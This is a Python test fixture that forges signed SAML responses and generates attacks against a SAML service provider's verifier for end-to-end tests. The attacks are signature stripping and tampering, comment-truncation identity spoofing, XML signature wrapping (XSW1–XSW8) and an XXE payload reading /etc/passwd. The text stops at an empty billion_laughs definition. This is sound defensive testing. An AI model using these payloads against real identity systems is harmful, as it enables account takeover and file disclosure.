"""Forges SAML 2.0 Responses for the ACS end-to-end tests: real keys, real signatures, real attacks.

Keys and certificates come from the `openssl` CLI, signatures from the `xmlsec1` CLI (on a
template with an enveloped, exclusive-C14N signature placed right after the Issuer, as the
schema requires), XML surgery from lxml. Every valid output verifies with
`xmlsec1 --verify --pubkey-cert-pem cert.pem --id-attr:ID <ns>:Assertion` (see xmlsec_verify);
every attack below keeps a validly signed element somewhere (tests/e2e/test_saml_forge_selfcheck.py
proves it), so a refusal by the server is a refusal of a real attack.

Debian packages only (run under /usr/bin/python3): python3-lxml, xmlsec1, openssl.

Typical use:

    kp = make_keypair(tmp_path)                       # the IdP's key, configured on the server
    c = Claims(idp_entity_id=IDP, sp_entity_id=SP, acs_url=ACS, in_response_to=req_id,
               email="ada@acme.com", attributes={"groups": ["eng"]})
    signed = sign(build_response(c), kp)              # valid: assertion signed
    form = post_form(xsw_evil_assertion_first(signed, "mallory@acme.com"), relay_state="x")

The reason the C++ verifier (src/sso/saml_response.cpp) gives for each attack is in
EXPECTED_REASON; `all_variants()` makes every one of them at once for a parametrized test.
"""
from __future__ import annotations

import base64
import copy
import os
import re
import secrets
import subprocess
import tempfile
import time
from dataclasses import dataclass, field
from datetime import datetime, timezone

from lxml import etree

NS_P = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_A = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XENC = "http://www.w3.org/2001/04/xmlenc#"
NS_MD = "urn:oasis:names:tc:SAML:2.0:metadata"
NSMAP = {"samlp": NS_P, "saml": NS_A, "ds": NS_DS}

NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
ATTRNAME_BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
AC_PASSWORD = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
BINDING_REDIRECT = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"

SIGNATURE_METHODS = {
    "rsa-sha1": "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
    "rsa-sha256": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    "rsa-sha384": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha384",
    "rsa-sha512": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512",
}
DIGEST_METHODS = {
    "sha1": "http://www.w3.org/2000/09/xmldsig#sha1",
    "sha256": "http://www.w3.org/2001/04/xmlenc#sha256",
    "sha384": "http://www.w3.org/2001/04/xmldsig-more#sha384",
    "sha512": "http://www.w3.org/2001/04/xmlenc#sha512",
}
C14N_METHODS = {
    "exc": "http://www.w3.org/2001/10/xml-exc-c14n#",
    "exc-comments": "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
    "inclusive": "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",  # refused by the SP
}
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"

# The ID attributes xmlsec1 must know about (SAML declares them in its schema, not in a DTD).
ID_ATTRS = (f"{NS_A}:Assertion", f"{NS_P}:Response")

XMLSEC1 = os.environ.get("XMLSEC1", "xmlsec1")
OPENSSL = os.environ.get("OPENSSL", "openssl")

# Reason codes of src/sso/saml.h that the C++ verifier gives each variant of all_variants()
# (read from saml_response.cpp's order of checks: parse, IDs/assertion count, Destination/
# Status/Issuer, signature shape, signature value, then the assertion's conditions).
# "accepted" marks the positive controls. comment_in_nameid is accepted by the verifier, which
# reads the NameID's whole text ("ada@acme.com.evil.com"), never the first text node only.
EXPECTED_REASON = {
    "valid_assertion_signed": "accepted",
    "valid_response_signed": "accepted",
    "valid_both_signed": "accepted",
    "valid_rsa_sha512": "accepted",
    "comment_in_nameid": "accepted",
    "comment_inserted_after_signing": "accepted",
    "sha1": "signature_algorithm",
    "sha1_digest_only": "signature_algorithm",
    "inclusive_c14n": "signature_transform",
    "attacker_key_embedded_cert": "signature_invalid",
    "strip_signature": "signature_missing",
    "remove_signature_value": "signature_invalid",
    "tamper_after_signing": "signature_invalid",
    "reference_whole_document": "signature_reference",
    "xsw_evil_assertion_first": "assertion_count",          # XSW3
    "xsw_wrapped_in_evil": "assertion_count",               # XSW4
    "xsw_evil_carries_signature": "assertion_count",        # XSW5
    "xsw_original_in_extensions": "assertion_count",        # XSW7
    "xsw_original_in_signature_object": "assertion_count",  # XSW8
    "xsw_duplicate_id": "duplicate_id",
    "xsw_response_in_signature_object": "assertion_count",  # XSW1
    "xsw_response_before_signature": "assertion_count",     # XSW2
    "xsw_response_in_evil_extensions": "assertion_count",
    "doctype_xxe": "doctype",
    "billion_laughs": "doctype",
    "encrypted_assertion": "encrypted_assertion",
}


# ---- keys ---------------------------------------------------------------------------------------
@dataclass
class Keypair:
    key_pem: str
    cert_pem: str
    key_path: str
    cert_path: str

    @property
    def cert_b64(self) -> str:
        """The certificate's DER in base64, one line (what ds:X509Certificate and metadata hold)."""
        return "".join(l for l in self.cert_pem.splitlines() if l and not l.startswith("-----"))


def make_keypair(directory, cn: str = "idp.test", bits: int = 2048) -> Keypair:
    """A throwaway RSA key and a self-signed certificate for it (openssl CLI), written to
    `directory` under fresh names (several pairs with one CN can live side by side)."""
    directory = os.fspath(directory)
    os.makedirs(directory, exist_ok=True)
    stem = os.path.join(directory, f"{re.sub(r'[^A-Za-z0-9.-]', '_', cn)}-{secrets.token_hex(4)}")
    key_path, cert_path = stem + ".key.pem", stem + ".cert.pem"
    subprocess.run(
        [OPENSSL, "req", "-x509", "-newkey", f"rsa:{bits}", "-nodes", "-sha256", "-days", "3650",
         "-subj", f"/CN={cn}", "-keyout", key_path, "-out", cert_path],
        check=True, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    with open(key_path) as f:
        key_pem = f.read()
    with open(cert_path) as f:
        cert_pem = f.read()
    return Keypair(key_pem, cert_pem, key_path, cert_path)


def idp_metadata(kp: Keypair, entity_id: str, sso_url: str) -> bytes:
    """IdP metadata (EntityDescriptor/IDPSSODescriptor with the signing certificate and a
    HTTP-Redirect SingleSignOnService), for configuring the SP under test with this IdP."""
    md = etree.Element(f"{{{NS_MD}}}EntityDescriptor", nsmap={"md": NS_MD, "ds": NS_DS},
                       entityID=entity_id)
    idp = etree.SubElement(md, f"{{{NS_MD}}}IDPSSODescriptor",
                           protocolSupportEnumeration=NS_P, WantAuthnRequestsSigned="false")
    kd = etree.SubElement(idp, f"{{{NS_MD}}}KeyDescriptor", use="signing")
    ki = etree.SubElement(kd, f"{{{NS_DS}}}KeyInfo")
    x = etree.SubElement(etree.SubElement(ki, f"{{{NS_DS}}}X509Data"), f"{{{NS_DS}}}X509Certificate")
    x.text = kp.cert_b64
    etree.SubElement(idp, f"{{{NS_MD}}}NameIDFormat").text = NAMEID_EMAIL
    etree.SubElement(idp, f"{{{NS_MD}}}SingleSignOnService", Binding=BINDING_REDIRECT,
                     Location=sso_url)
    return etree.tostring(md, xml_declaration=True, encoding="UTF-8")


# ---- the valid response ---------------------------------------------------------------------------
@dataclass
class Claims:
    idp_entity_id: str
    sp_entity_id: str
    acs_url: str
    in_response_to: str | None  # None: IdP-initiated (no InResponseTo anywhere)
    email: str  # NameID (format emailAddress) and the `email` attribute
    attributes: dict[str, list[str]] = field(default_factory=dict)  # extra attributes
    issue_instant: int | None = None  # unix; default now
    not_before: int | None = None  # default issue_instant - 60
    not_on_or_after: int | None = None  # default issue_instant + 300 (Conditions and SCD)
    assertion_id: str | None = None  # default "_" + random hex
    response_id: str | None = None  # default "_" + random hex
    status: str = STATUS_SUCCESS
    destination: str | None = None  # default acs_url
    recipient: str | None = None  # SubjectConfirmationData Recipient; default acs_url
    session_index: str | None = None  # default "_" + random hex


def new_id() -> str:
    """An xs:ID as IdPs make them: "_" and 32 hex digits."""
    return "_" + secrets.token_hex(16)


def iso(t: int) -> str:
    return datetime.fromtimestamp(t, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def _a(tag):
    return f"{{{NS_A}}}{tag}"


def _p(tag):
    return f"{{{NS_P}}}{tag}"


def _ds(tag):
    return f"{{{NS_DS}}}{tag}"


def _set_text_nodes(el, parts: list[str]) -> None:
    """Sets el's content to the parts separated by empty comments: a<!---->b<!---->c."""
    for child in list(el):
        el.remove(child)
    el.text = parts[0]
    for part in parts[1:]:
        comment = etree.Comment("")
        comment.tail = part
        el.append(comment)


def build_response(c: Claims, *, nameid_text_nodes: list[str] | None = None,
                   email_attribute_text_nodes: list[str] | None = None) -> bytes:
    """An unsigned samlp:Response holding one saml:Assertion: Issuer on both, Status, Subject
    (NameID format emailAddress, bearer SubjectConfirmation with Recipient, InResponseTo and
    NotOnOrAfter), Conditions (NotBefore/NotOnOrAfter, AudienceRestriction), AuthnStatement
    and an AttributeStatement (`email` first, then c.attributes; an `email` key there wins).

    nameid_text_nodes: when given, the NameID holds these strings as separate text nodes split by
    empty comments (["ada@acme.com", ".evil.com"] gives ada@acme.com<!---->.evil.com) instead of
    c.email; email_attribute_text_nodes does the same for the `email` attribute's value.
    Compact output (no indentation): every byte is as an IdP would sign it."""
    now = int(time.time())
    ii = c.issue_instant if c.issue_instant is not None else now
    nb = c.not_before if c.not_before is not None else ii - 60
    nooa = c.not_on_or_after if c.not_on_or_after is not None else ii + 300
    assertion_id = c.assertion_id or new_id()
    response_id = c.response_id or new_id()

    resp = etree.Element(_p("Response"), nsmap={"samlp": NS_P, "saml": NS_A})
    resp.set("ID", response_id)
    resp.set("Version", "2.0")
    resp.set("IssueInstant", iso(ii))
    resp.set("Destination", c.destination if c.destination is not None else c.acs_url)
    if c.in_response_to is not None:
        resp.set("InResponseTo", c.in_response_to)
    etree.SubElement(resp, _a("Issuer")).text = c.idp_entity_id
    status = etree.SubElement(resp, _p("Status"))
    etree.SubElement(status, _p("StatusCode"), Value=c.status)

    a = etree.SubElement(resp, _a("Assertion"))
    a.set("ID", assertion_id)
    a.set("Version", "2.0")
    a.set("IssueInstant", iso(ii))
    etree.SubElement(a, _a("Issuer")).text = c.idp_entity_id
    subject = etree.SubElement(a, _a("Subject"))
    name_id = etree.SubElement(subject, _a("NameID"), Format=NAMEID_EMAIL)
    _set_text_nodes(name_id, nameid_text_nodes or [c.email])
    sc = etree.SubElement(subject, _a("SubjectConfirmation"), Method=BEARER)
    scd = etree.SubElement(sc, _a("SubjectConfirmationData"))
    if c.in_response_to is not None:
        scd.set("InResponseTo", c.in_response_to)
    scd.set("NotOnOrAfter", iso(nooa))
    scd.set("Recipient", c.recipient if c.recipient is not None else c.acs_url)
    cond = etree.SubElement(a, _a("Conditions"), NotBefore=iso(nb), NotOnOrAfter=iso(nooa))
    ar = etree.SubElement(cond, _a("AudienceRestriction"))
    etree.SubElement(ar, _a("Audience")).text = c.sp_entity_id
    authn = etree.SubElement(a, _a("AuthnStatement"), AuthnInstant=iso(ii),
                             SessionIndex=c.session_index or new_id())
    ctx = etree.SubElement(authn, _a("AuthnContext"))
    etree.SubElement(ctx, _a("AuthnContextClassRef")).text = AC_PASSWORD
    attrs = {"email": [c.email], **c.attributes}
    st = etree.SubElement(a, _a("AttributeStatement"))
    for name, values in attrs.items():
        attr = etree.SubElement(st, _a("Attribute"), Name=name, NameFormat=ATTRNAME_BASIC)
        for i, v in enumerate(values):
            av = etree.SubElement(attr, _a("AttributeValue"))
            if name == "email" and i == 0 and email_attribute_text_nodes and "email" not in c.attributes:
                _set_text_nodes(av, email_attribute_text_nodes)
            else:
                av.text = v
    return _dump(resp)


# ---- signing and verifying with xmlsec1 ---------------------------------------------------------------
_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, remove_comments=False,
                          remove_blank_text=False, huge_tree=False)


def _parse(xml: bytes):
    return etree.fromstring(xml, _PARSER)


def _dump(root) -> bytes:
    return etree.tostring(root.getroottree(), xml_declaration=True, encoding="UTF-8")


def _signature_template(ref_id: str, algorithm: str, digest: str, c14n: str, embed_cert: bool):
    sig = etree.Element(_ds("Signature"), nsmap={"ds": NS_DS})
    si = etree.SubElement(sig, _ds("SignedInfo"))
    etree.SubElement(si, _ds("CanonicalizationMethod"), Algorithm=C14N_METHODS[c14n])
    etree.SubElement(si, _ds("SignatureMethod"), Algorithm=SIGNATURE_METHODS[algorithm])
    ref = etree.SubElement(si, _ds("Reference"), URI="#" + ref_id)
    tr = etree.SubElement(ref, _ds("Transforms"))
    etree.SubElement(tr, _ds("Transform"), Algorithm=ENVELOPED)
    etree.SubElement(tr, _ds("Transform"), Algorithm=C14N_METHODS[c14n])
    etree.SubElement(ref, _ds("DigestMethod"), Algorithm=DIGEST_METHODS[digest])
    etree.SubElement(ref, _ds("DigestValue"))
    etree.SubElement(sig, _ds("SignatureValue"))
    if embed_cert:
        ki = etree.SubElement(sig, _ds("KeyInfo"))
        etree.SubElement(etree.SubElement(ki, _ds("X509Data")), _ds("X509Certificate"))
    return sig


def _target(root, which: str):
    if which == "response":
        return root
    a = root.find(_a("Assertion"))
    if a is None:
        a = next(root.iter(_a("Assertion")), None)
    if a is None:
        raise ValueError("no saml:Assertion to sign")
    return a


def _id_attr_args():
    out = []
    for spec in ID_ATTRS:
        out += ["--id-attr:ID", spec]
    return out


def _sign_one(xml: bytes, kp: Keypair, which: str, algorithm: str, digest: str, c14n: str,
              embed_cert: bool) -> bytes:
    root = _parse(xml)
    el = _target(root, which)
    ref_id = el.get("ID")
    if not ref_id:
        raise ValueError(f"the {which} has no ID attribute")
    sig = _signature_template(ref_id, algorithm, digest, c14n, embed_cert)
    issuer = el.find(_a("Issuer"))
    if issuer is not None and el.index(issuer) == 0:
        issuer.addnext(sig)  # Issuer, then Signature: the schema's order
    else:
        el.insert(0, sig)
    # The template is now the first ds:Signature child of the element with this ID.
    xpath = (f"//*[@ID='{ref_id}']/*[local-name()='Signature' and "
             f"namespace-uri()='{NS_DS}'][1]")
    with tempfile.TemporaryDirectory(prefix="saml-sign-") as d:
        tmpl, out = os.path.join(d, "tmpl.xml"), os.path.join(d, "out.xml")
        with open(tmpl, "wb") as f:
            f.write(_dump(root))
        r = subprocess.run(
            [XMLSEC1, "--sign", "--privkey-pem", f"{kp.key_path},{kp.cert_path}",
             *_id_attr_args(), "--node-xpath", xpath, "--output", out, tmpl],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        if r.returncode != 0:
            raise RuntimeError(f"xmlsec1 --sign failed: {r.stderr.strip()}")
        with open(out, "rb") as f:
            return f.read()


def sign(xml: bytes, kp: Keypair, *, target: str = "assertion", algorithm: str = "rsa-sha256",
         digest: str = "sha256", embed_cert: bool = True, c14n: str = "exc") -> bytes:
    """Signs the Response's Assertion, the Response itself, or both (assertion first, so that
    the Response's signature covers the assertion's) with `xmlsec1 --sign` on a template:
    enveloped signature right after the Issuer, Reference URI="#<ID>", transforms
    enveloped-signature + c14n, SignatureMethod `algorithm` (rsa-sha1|rsa-sha256|rsa-sha384|
    rsa-sha512), DigestMethod `digest` (sha1|sha256|sha384|sha512), and with embed_cert the
    signer's certificate in KeyInfo/X509Data.

    c14n: "exc" (exclusive C14N, what IdPs use), "exc-comments", or "inclusive" (C14N 1.0, which
    the SP refuses: signature_transform).

    Attacker's key: sign(xml, attacker_keypair, embed_cert=True) is a well-formed signature that
    carries its own certificate. An SP that takes the key from the message's KeyInfo (instead of
    the configured IdP certificate) would trust it; Gatehouse must answer signature_invalid."""
    if target not in ("assertion", "response", "both"):
        raise ValueError(f"target must be assertion, response or both, not {target!r}")
    if algorithm not in SIGNATURE_METHODS or digest not in DIGEST_METHODS or c14n not in C14N_METHODS:
        raise ValueError("unknown algorithm, digest or c14n")
    for which in (["assertion", "response"] if target == "both" else [target]):
        xml = _sign_one(xml, kp, which, algorithm, digest, c14n, embed_cert)
    return xml


def xmlsec_verify(xml: bytes, cert_path: str, *, node_xpath: str | None = None,
                  id_attrs=ID_ATTRS) -> tuple[bool, str]:
    """`xmlsec1 --verify --pubkey-cert-pem cert_path --id-attr:ID <each of id_attrs>` on xml:
    (True, output) when the signature verifies with that certificate's key. xmlsec1 checks the
    first ds:Signature in document order, or the one node_xpath selects. It refuses a document in
    which two registered elements share an ID (a duplicate-ID attack must be cut out first)."""
    args = []
    for spec in id_attrs:
        args += ["--id-attr:ID", spec]
    if node_xpath:
        args += ["--node-xpath", node_xpath]
    with tempfile.TemporaryDirectory(prefix="saml-verify-") as d:
        path = os.path.join(d, "doc.xml")
        with open(path, "wb") as f:
            f.write(xml)
        r = subprocess.run([XMLSEC1, "--verify", "--pubkey-cert-pem", cert_path, *args, path],
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return r.returncode == 0, r.stdout


def encode(xml: bytes) -> str:
    """The SAMLResponse form value: standard base64 of the document, no line breaks."""
    return base64.b64encode(xml).decode("ascii")


def post_form(xml: bytes, relay_state: str = "") -> dict[str, str]:
    """The HTTP-POST binding's form fields for `POST /v1/sso/saml/{sso}/acs`."""
    return {"SAMLResponse": encode(xml), "RelayState": relay_state}


# ---- helpers for the attacks ----------------------------------------------------------------------------
def _signed_assertion(root):
    """The Response's assertion that carries a signature (else its first assertion)."""
    direct = root.findall(_a("Assertion"))
    for a in direct:
        if a.find(_ds("Signature")) is not None:
            return a
    if direct:
        return direct[0]
    raise ValueError("no saml:Assertion under the Response")


def _strip_own_signatures(el):
    for s in el.findall(_ds("Signature")):
        el.remove(s)


def _set_email(assertion, email: str) -> None:
    """Rewrites the NameID and the `email` attribute values of one assertion."""
    for nid in assertion.iter(_a("NameID")):
        _set_text_nodes(nid, [email])
    for attr in assertion.iter(_a("Attribute")):
        if attr.get("Name") == "email":
            for av in attr.findall(_a("AttributeValue")):
                _set_text_nodes(av, [email])


def _evil_copy(assertion, evil_email: str, evil_id: str | None):
    """An unsigned copy of the assertion naming evil_email, with evil_id (default a fresh ID)."""
    evil = copy.deepcopy(assertion)
    _strip_own_signatures(evil)
    evil.set("ID", evil_id or new_id())
    _set_email(evil, evil_email)
    evil.tail = None
    return evil


def _after_issuer_and_signature(el):
    """Index where schema-ordered children after Issuer and Signature go (e.g. Extensions)."""
    i = 0
    for child in el:
        if child.tag in (_a("Issuer"), _ds("Signature")):
            i = el.index(child) + 1
        else:
            break
    return i


def _object(sig, content):
    obj = etree.SubElement(sig, _ds("Object"))
    obj.append(content)
    return obj


# ---- attacks on the signature ---------------------------------------------------------------------------
def strip_signature(signed: bytes) -> bytes:
    """Every ds:Signature removed (Response's and assertions'). A vulnerable SP verifies a
    signature only when one is present and accepts the unsigned assertion.
    Gatehouse: signature_missing."""
    root = _parse(signed)
    for s in list(root.iter(_ds("Signature"))):
        s.getparent().remove(s)
    return _dump(root)


def remove_signature_value(signed: bytes, *, delete_element: bool = False) -> bytes:
    """Every SignatureValue emptied (or, with delete_element, removed). A vulnerable SP checks
    only the digests (or treats an empty value as "nothing to verify").
    Gatehouse: signature_invalid."""
    root = _parse(signed)
    for sv in list(root.iter(_ds("SignatureValue"))):
        if delete_element:
            sv.getparent().remove(sv)
        else:
            sv.text = None
    return _dump(root)


def tamper_after_signing(signed: bytes, new_email: str) -> bytes:
    """The NameID and `email` attribute of every assertion rewritten after signing. A vulnerable
    SP does not verify at all, or verifies the SignedInfo without recomputing the digest.
    Gatehouse: signature_invalid."""
    root = _parse(signed)
    for a in root.iter(_a("Assertion")):
        _set_email(a, new_email)
    return _dump(root)


def reference_whole_document(signed: bytes, uri: str = "") -> bytes:
    """Every Reference URI rewritten (default "": the whole document) after signing. A vulnerable
    SP accepts a reference to something other than the element the signature sits in.
    Gatehouse: signature_reference (the shape is checked before the value)."""
    root = _parse(signed)
    for ref in root.iter(_ds("Reference")):
        ref.set("URI", uri)
    return _dump(root)


def insert_comment_after_signing(signed: bytes, visible_prefix: str) -> bytes:
    """The classic comment-truncation attack (2018, CVE-2017-11427 and siblings): the attacker
    owns `ada@acme.com.evil.com` at the IdP, gets it signed, then splits the NameID (and the
    `email` attribute) after `visible_prefix` with an empty comment:
    ada@acme.com<!---->.evil.com. Exclusive C14N drops comments, so the signature stays valid.
    A vulnerable SP reads only the first text node (`ada@acme.com`) and logs in as the victim.
    Gatehouse's verifier reads the whole text (accepted as ada@acme.com.evil.com)."""
    root = _parse(signed)
    for el in list(root.iter(_a("NameID"))) + [
            av for at in root.iter(_a("Attribute")) if at.get("Name") == "email"
            for av in at.findall(_a("AttributeValue"))]:
        text = el.xpath("string()")
        if not text.startswith(visible_prefix) or text == visible_prefix:
            raise ValueError(f"{text!r} does not extend {visible_prefix!r}")
        _set_text_nodes(el, [visible_prefix, text[len(visible_prefix):]])
    return _dump(root)


def comment_in_nameid(c: Claims, kp: Keypair, visible_prefix: str, **sign_kwargs) -> bytes:
    """A validly signed response whose NameID (and `email` attribute) is c.email split by an
    empty comment after visible_prefix, made BEFORE signing: c.email="ada@acme.com.evil.com",
    visible_prefix="ada@acme.com" gives <NameID>ada@acme.com<!---->.evil.com</NameID>. The
    canonical form drops the comment, so the signature covers "ada@acme.com.evil.com" and is
    valid. A vulnerable SP reads only the first text node and logs the attacker in as
    ada@acme.com. Gatehouse's verifier reads the whole text (FullText): accepted, as
    ada@acme.com.evil.com."""
    if not c.email.startswith(visible_prefix) or c.email == visible_prefix:
        raise ValueError("c.email must strictly extend visible_prefix")
    parts = [visible_prefix, c.email[len(visible_prefix):]]
    return sign(build_response(c, nameid_text_nodes=parts, email_attribute_text_nodes=parts), kp,
                **sign_kwargs)


# ---- XML signature wrapping (XSW) -----------------------------------------------------------------------
# Somorovsky et al., "On Breaking SAML" (2012); numbering as in SAML Raider. Each keeps the
# original, validly signed element in the document (where the signature's Reference still
# finds it by ID) and puts an evil, unsigned one where a naive SP reads the identity from.
# Gatehouse refuses all of them before any signature is checked: more than one Assertion in
# the document is assertion_count, two equal IDs are duplicate_id.

def xsw_evil_assertion_first(signed: bytes, evil_email: str, *, evil_id: str | None = None) -> bytes:
    """XSW3: an unsigned copy of the signed assertion, with another ID (evil_id, default fresh)
    and NameID evil_email, inserted before the signed one. A vulnerable SP verifies the
    signature (its Reference finds the original by ID) and then reads the first Assertion.
    Gatehouse: assertion_count (duplicate_id when evil_id is the original's)."""
    root = _parse(signed)
    orig = _signed_assertion(root)
    orig.addprevious(_evil_copy(orig, evil_email, evil_id))
    return _dump(root)


def xsw_wrapped_in_evil(signed: bytes, evil_email: str, *, evil_id: str | None = None,
                        where: str = "end") -> bytes:
    """XSW4: the evil assertion takes the signed one's place in the Response, and the signed
    assertion moves inside it: as its last child (where="end") or inside its Subject
    (where="subject"). The Reference still finds the original by ID, so the signature verifies;
    a vulnerable SP then reads the Response's (outer, evil) Assertion.
    Gatehouse: assertion_count."""
    root = _parse(signed)
    orig = _signed_assertion(root)
    evil = _evil_copy(orig, evil_email, evil_id)
    orig.addprevious(evil)
    if where == "end":
        evil.append(orig)
    elif where == "subject":
        evil.find(_a("Subject")).append(orig)
    else:
        raise ValueError("where must be end or subject")
    return _dump(root)


def xsw_evil_carries_signature(signed: bytes, evil_email: str, *,
                               evil_id: str | None = None) -> bytes:
    """XSW5: the signed assertion's content is made evil in place (new ID, evil NameID) but
    keeps its ds:Signature; an unsigned copy of the original (original ID) is appended to the
    Response. The signature's Reference finds that copy by ID and verifies; a vulnerable SP
    takes "the assertion that holds a valid signature" (the first, evil one).
    Gatehouse: assertion_count."""
    root = _parse(signed)
    orig = _signed_assertion(root)
    plain = copy.deepcopy(orig)
    _strip_own_signatures(plain)
    plain.tail = None
    orig.set("ID", evil_id or new_id())
    _set_email(orig, evil_email)
    root.append(plain)
    return _dump(root)


def xsw_original_in_extensions(signed: bytes, evil_email: str, *, evil_id: str | None = None) -> bytes:
    """XSW7: the signed assertion moves into a samlp:Extensions element of the Response
    (after Issuer/Signature, as the schema orders it) and an unsigned evil assertion takes its
    place. A vulnerable SP finds a validly signed assertion anywhere and reads the Response's
    Assertion child. Gatehouse: assertion_count."""
    root = _parse(signed)
    orig = _signed_assertion(root)
    evil = _evil_copy(orig, evil_email, evil_id)
    orig.addprevious(evil)
    ext = etree.Element(_p("Extensions"))
    root.insert(_after_issuer_and_signature(root), ext)
    ext.append(orig)
    return _dump(root)


def xsw_original_in_signature_object(signed: bytes, evil_email: str, *,
                                     evil_id: str | None = None, strip_inner: bool = False) -> bytes:
    """XSW8: the evil assertion (new ID, evil NameID) carries a copy of the original's
    ds:Signature, and the original assertion sits in a ds:Object of that signature. A vulnerable
    SP sees "an assertion with a signature that verifies" and reads the evil one.

    Default: the original keeps its own signature inside the Object, so the document holds a
    signature that verifies under the standard enveloped-signature transform (the inner one).
    strip_inner=True is the paper's XSW8: the original without its signature, which the copied
    signature's Reference finds by ID; that digest matches only for SPs whose enveloped transform
    removes "the Signature element if it is inside the referenced one" (per the spec, and in
    xmlsec, it drops everything below the signature, the Object too).
    Gatehouse: assertion_count."""
    root = _parse(signed)
    orig = _signed_assertion(root)
    if orig.find(_ds("Signature")) is None:
        raise ValueError("the assertion is not signed")
    evil = copy.deepcopy(orig)  # keeps a copy of the Signature in place
    evil.set("ID", evil_id or new_id())
    _set_email(evil, evil_email)
    inner = copy.deepcopy(orig)
    if strip_inner:
        _strip_own_signatures(inner)
    inner.tail = None
    _object(evil.find(_ds("Signature")), inner)
    orig.addprevious(evil)
    root.remove(orig)
    return _dump(root)


def xsw_duplicate_id(signed: bytes, evil_email: str, *, evil_first: bool = True) -> bytes:
    """An unsigned evil assertion with the SAME ID as the signed one, before it (evil_first) or
    after it. Which one `#ID` resolves to depends on the ID lookup: a vulnerable SP verifies
    one and reads the other. xmlsec1 itself refuses the duplicate when registering IDs, so the
    self-check verifies the signed one cut out alone. Gatehouse: duplicate_id."""
    root = _parse(signed)
    orig = _signed_assertion(root)
    evil = _evil_copy(orig, evil_email, orig.get("ID"))
    if evil_first:
        orig.addprevious(evil)
    else:
        orig.addnext(evil)
    return _dump(root)


def _evil_response(root, evil_email: str):
    """A copy of the Response with a new ID, no signature, one unsigned evil assertion."""
    evil = copy.deepcopy(root)
    evil.set("ID", new_id())
    _strip_own_signatures(evil)
    assertions = evil.findall(_a("Assertion"))
    for a in assertions[1:]:
        evil.remove(a)
    if assertions:
        a = assertions[0]
        _strip_own_signatures(a)
        a.set("ID", new_id())
        _set_email(a, evil_email)
    return evil


def xsw_response_in_signature_object(signed: bytes, evil_email: str, *,
                                     strip_inner: bool = False) -> bytes:
    """XSW1 (needs a signed Response: sign(..., target="response"|"both")): a new evil Response
    (new ID, unsigned evil assertion) is the root and carries a copy of the original Response's
    signature, whose ds:Object holds the original Response. A vulnerable SP checks "the Response
    is signed" and reads the root. Default: the original keeps its signature (which verifies
    there under the standard enveloped transform); strip_inner=True is the paper's form, the
    original without it (see xsw_original_in_signature_object). Gatehouse: assertion_count."""
    root = _parse(signed)
    sig = root.find(_ds("Signature"))
    if sig is None:
        raise ValueError("the Response is not signed")
    evil = _evil_response(root, evil_email)
    orig = copy.deepcopy(root)
    if strip_inner:
        _strip_own_signatures(orig)
    sig = copy.deepcopy(sig)
    sig.tail = None
    _object(sig, orig)
    evil.insert(_after_issuer_and_signature(evil), sig)
    return _dump(evil)


def xsw_response_before_signature(signed: bytes, evil_email: str) -> bytes:
    """XSW2 (needs a signed Response): like XSW1, but the original Response (without its
    signature) is a child of the evil root placed just before the moved signature, as a
    detached signature would have it. Gatehouse: assertion_count."""
    root = _parse(signed)
    sig = root.find(_ds("Signature"))
    if sig is None:
        raise ValueError("the Response is not signed")
    evil = _evil_response(root, evil_email)
    orig = copy.deepcopy(root)
    _strip_own_signatures(orig)
    orig.tail = None
    sig = copy.deepcopy(sig)
    sig.tail = None
    at = _after_issuer_and_signature(evil)
    evil.insert(at, orig)
    evil.insert(at + 1, sig)
    return _dump(evil)


def xsw_response_in_evil_extensions(signed: bytes, evil_email: str) -> bytes:
    """An evil Response wrapping the original: a new root Response (new ID, unsigned evil
    assertion) with the whole original Response, signatures intact, inside its samlp:Extensions.
    Works for any signing target. A vulnerable SP looks up the signed element by ID anywhere in
    the document and reads the root's Assertion. Gatehouse: assertion_count."""
    root = _parse(signed)
    evil = _evil_response(root, evil_email)
    ext = etree.Element(_p("Extensions"))
    evil.insert(_after_issuer_and_signature(evil), ext)
    ext.append(copy.deepcopy(root))
    return _dump(evil)


# ---- parser attacks ---------------------------------------------------------------------------------------
_NAMEID_RE = re.compile(rb"(<(?:[A-Za-z_][\w.-]*:)?NameID\b[^>]*>)(.*?)(</(?:[A-Za-z_][\w.-]*:)?NameID>)",
                        re.S)
_ROOT_RE = re.compile(rb"<((?:[A-Za-z_][\w.-]*:)?Response)\b")


def _with_doctype(xml: bytes, internal_subset: bytes, nameid_content: bytes) -> bytes:
    m = _ROOT_RE.search(xml)
    if not m:
        raise ValueError("no Response element")
    root_name = m.group(1)
    doctype = b"<!DOCTYPE " + root_name + b" [" + internal_subset + b"]>\n"
    body = _NAMEID_RE.sub(lambda n: n.group(1) + nameid_content + n.group(3), xml, count=1)
    if body.startswith(b"<?xml"):
        end = body.index(b"?>") + 2
        return body[:end] + b"\n" + doctype + body[end:].lstrip(b"\r\n")
    return doctype + body


def with_doctype_xxe(signed: bytes, system_uri: str = "file:///etc/passwd") -> bytes:
    """A DOCTYPE declaring an external entity (default file:///etc/passwd) that the first NameID
    references (<NameID>&xxe;</NameID>). A vulnerable SP's parser substitutes it (disclosing the
    file, or fetching a URL: SSRF) before or after verifying. Gatehouse: doctype."""
    subset = b'<!ENTITY xxe SYSTEM "' + system_uri.encode() + b'">'
    return _with_doctype(signed, subset, b"&xxe;")


def billion_laughs(signed: bytes | None = None, levels: int = 9) -> bytes:
